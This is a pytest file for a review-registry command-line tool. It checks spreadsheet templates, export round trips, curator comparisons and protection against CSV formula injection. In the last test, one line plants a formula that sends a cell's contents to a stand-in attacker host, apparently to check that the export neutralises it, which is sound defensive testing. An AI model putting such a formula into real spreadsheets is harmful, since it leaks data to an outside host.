"""Template -> filled workbook -> add-trial -> export gives the same content back."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook
from typer.testing import CliRunner

from registry.cli import app
from registry.curation import compare_sheets
from registry.store import Store
from schemas.protocol import load_protocol
from schemas.sheet_format import EXTRACTION_SHEETS, columns_for

from .helpers import read


def _number(text: str) -> object:
    """What a curator types: numbers become numeric cells, the rest stays text."""
    try:
        f = float(text)
    except ValueError:
        return text
    return int(f) if f.is_integer() and "." not in text else f


def test_template_has_sheets_headers_lists_and_instructions(mini: Path, tmp_path: Path) -> None:
    out = tmp_path / "blank.xlsx"
    r = CliRunner().invoke(app, ["extract", "template", str(out), "--review", "mini"])
    assert r.exit_code == 0, r.output
    wb = load_workbook(out)
    assert wb.sheetnames == ["instructions", "lists", *EXTRACTION_SHEETS]
    protocol = load_protocol("mini")
    for sheet in EXTRACTION_SHEETS:
        ws = wb[sheet]
        header = [c.value for c in ws[1]]
        assert header == list(columns_for(sheet, protocol))
        assert ws.max_row == 1  # blank
    assert "route" in [c.value for c in wb["studies"][1]]  # protocol characteristic column
    lists = {c.value: i for i, c in enumerate(wb["lists"][1], start=1)}
    outcome_col = [wb["lists"].cell(row=i, column=lists["outcome"]).value for i in (2, 3, 4)]
    assert outcome_col == ["score", "albumin", "death"]
    dvs = {str(dv.sqref): dv.formula1 for dv in wb["outcomes"].data_validations.dataValidation}
    col = [c.value for c in wb["outcomes"][1]].index("outcome") + 1
    letter = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[col - 1]
    assert dvs[f"{letter}2:{letter}2000"].startswith("=lists!$")
    kinds = {dv.type for dv in wb["arms"].data_validations.dataValidation}
    assert kinds == {"list", "whole"}  # role list; n_randomised / n_analysed whole numbers
    text = "\n".join(str(c.value) for c in wb["instructions"]["A"] if c.value)
    assert "albumin: Serum albumin; continuous; unit g/L; units g/L (x1), g/dL (x10)" in text
    assert "3m: 3 months, 12 weeks, window 10-16 weeks" in text


def test_round_trip(mini: Path, tmp_path: Path) -> None:
    book = tmp_path / "filled.xlsx"
    dbfile = str(tmp_path / "rt.duckdb")
    run = CliRunner().invoke
    assert run(app, ["extract", "template", str(book), "--review", "mini"]).exit_code == 0
    wb = load_workbook(book)
    for sheet in EXTRACTION_SHEETS:
        header_csv, rows = read(mini / "extraction" / f"{sheet}.csv")
        ws = wb[sheet]
        header = [c.value for c in ws[1]]
        assert set(header_csv) <= set(header), sheet
        for i, row in enumerate(rows, start=2):
            for col, text in row.items():
                if text != "":
                    ws.cell(row=i, column=header.index(col) + 1, value=_number(text))
    wb.save(book)

    r = run(app, ["--db", dbfile, "add-trial", str(book), "--review", "mini"])
    assert r.exit_code == 0, r.output
    out1 = tmp_path / "export1"
    r = run(app, ["--db", dbfile, "extract", "export", "--review", "mini", str(out1)])
    assert r.exit_code == 0, r.output

    # Same content, except what the registry derived (and says so): Beta2012's SD from its SE
    diffs = compare_sheets(book, out1)
    assert {(d.sheet, d.key, d.column) for d in diffs} == {
        ("outcomes", "Beta2012 | trt | score | 4 weeks | final", "sd"),
        ("outcomes", "Beta2012 | trt | score | 4 weeks | final", "derivation"),
    }, [str(d) for d in diffs]

    # and the export is a fixed point: add it back, export again, byte-identical files
    r = run(app, ["--db", dbfile, "add-trial", str(out1), "--review", "mini"])
    assert r.exit_code == 0 and "nothing changed" in r.output, r.output
    out2 = tmp_path / "export2"
    assert (
        run(app, ["--db", dbfile, "extract", "export", "--review", "mini", str(out2)]).exit_code
        == 0
    )
    for sheet in EXTRACTION_SHEETS:
        assert (out1 / f"{sheet}.csv").read_bytes() == (out2 / f"{sheet}.csv").read_bytes()
    r = run(app, ["extract", "compare", str(out1), str(out2)])
    assert r.exit_code == 0 and "agree on every cell" in r.output


def test_compare_lists_every_disagreement(mini: Path, tmp_path: Path) -> None:
    import shutil

    from .helpers import copy_row, set_cell

    a = mini / "extraction"
    b = tmp_path / "curator_b"
    shutil.copytree(a, b)
    set_cell(b, "arms", 2, "n_randomised", "21")
    set_cell(b, "outcomes", 3, "mean", "14.00")  # same number written differently: agrees
    set_cell(b, "outcomes", 5, "sd", "")
    copy_row(b, "risk_of_bias", 2, domain="blinding_outcome")
    r = CliRunner().invoke(app, ["extract", "compare", str(a), str(b)])
    assert r.exit_code == 1
    assert "3 disagreement(s)" in r.output
    assert "arms [Alpha2010 | trt] n_randomised: A='20' B='21'" in r.output
    assert "outcomes [Beta2012 | ctl | score | 4 weeks | final] sd: A='2.9' B=None" in r.output
    assert "risk_of_bias [Alpha2010 | RoB1 | blinding_outcome]: row only in B" in r.output


def test_export_neutralises_formula_cells_and_round_trips(mini: Path, tmp_path: Path) -> None:
    # issue 10, item 8 (OWASP CSV injection): a citation that Excel would run as a formula
    # is exported with a protective quote; numbers, negative ones too, stay numbers; the
    # exported folder loads back to the same values
    from .helpers import set_cell

    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    set_cell(mini / "extraction", "studies", 2, "citation", evil)
    set_cell(mini / "extraction", "studies", 3, "notes", "-not blinded")
    set_cell(mini / "extraction", "outcomes", 4, "value_type", "change")
    set_cell(mini / "extraction", "outcomes", 4, "mean", "-1.5")
    db = str(tmp_path / "x.duckdb")
    run = CliRunner().invoke
    assert run(app, ["--db", db, "load-review", "mini"]).exit_code == 0
    out = tmp_path / "export"
    r = run(app, ["--db", db, "extract", "export", str(out), "--review", "mini"])
    assert r.exit_code == 0, r.output
    _, studies = read(out / "studies.csv")
    assert studies[0]["citation"] == "'" + evil
    assert studies[1]["notes"] == "'-not blinded"
    _, outcomes = read(out / "outcomes.csv")
    assert [o["mean"] for o in outcomes if o["value_type"] == "change"] == ["-1.5"]
    # what the registry derived (an SD from an SE) is the only difference from the folder
    diffs = {(d.sheet, d.column) for d in compare_sheets(out, mini / "extraction")}
    assert diffs <= {("outcomes", "sd"), ("outcomes", "derivation")}, diffs
    db2 = tmp_path / "y.duckdb"
    r = run(app, ["--db", str(db2), "add-trial", str(out), "--review", "mini"])
    assert r.exit_code == 0, r.output
    with Store(db2) as s:
        back = s.curation_rows("mini", "studies")
    assert back["citation"].tolist()[0] == evil
    assert back["notes"].tolist()[1] == "-not blinded"
